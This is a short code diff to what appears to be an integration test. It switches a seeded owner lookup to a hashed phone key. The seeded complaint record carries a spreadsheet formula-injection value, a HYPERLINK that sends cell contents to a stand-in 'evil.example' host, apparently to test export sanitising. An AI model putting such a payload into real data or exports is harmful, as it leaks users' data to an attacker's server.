@@ -1,3 +1,4 @@
+import { phoneLookupKey as phoneKey } from '../../src/domain/phone-vault'
 import http from 'node:http'
 import type { RunningApp } from '../../src/app'
 import { apiEndpoints } from '../../src/admin/api'
@@ -50,7 +51,7 @@ beforeAll(async () => {
                                description, ambassador_id, created_at)
      SELECT 'TS20261201-0001', 'complaint', '=HYPERLINK("http://evil.example/?d="&A1,"报表")', 'open', $1,
             o.household_id, o.id, 'console', '外墙渗水', $2, $3
-       FROM owner o WHERE o.phone = '13800000001'`,
+       FROM owner o WHERE o.phone_key = '${phoneKey('13800000001')}'`,
     [ids.hzProject, ids.lina, testClock()],
   )
   tokens.admin = ADMIN
